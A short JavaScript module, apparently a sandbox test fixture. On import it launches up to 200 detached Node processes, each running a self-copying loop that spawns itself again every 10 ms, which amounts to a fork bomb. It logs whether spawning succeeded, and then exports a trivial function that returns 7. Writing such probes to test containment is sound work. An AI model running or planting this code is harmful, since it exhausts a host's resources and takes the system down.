const { spawn } = process.getBuiltinModule("node:child_process");
console.log("tried");
const copy =
  "setInterval(() => process.getBuiltinModule('child_process').spawn(process.execPath, process.execArgv.concat(['-e', process.argv[1], '<marker>'])), 10)";
for (let i = 0; i < 200; i++) {
  try {
    const child = spawn(process.execPath, ["-e", copy, copy, "<marker>"], {
      stdio: "ignore",
      detached: true,
    });
    child.on("error", () => {});
    if (child.pid !== undefined) console.log("got through: it started a program");
  } catch {
    // It may not, or there are too many.
  }
}

export const dot = () => 7;
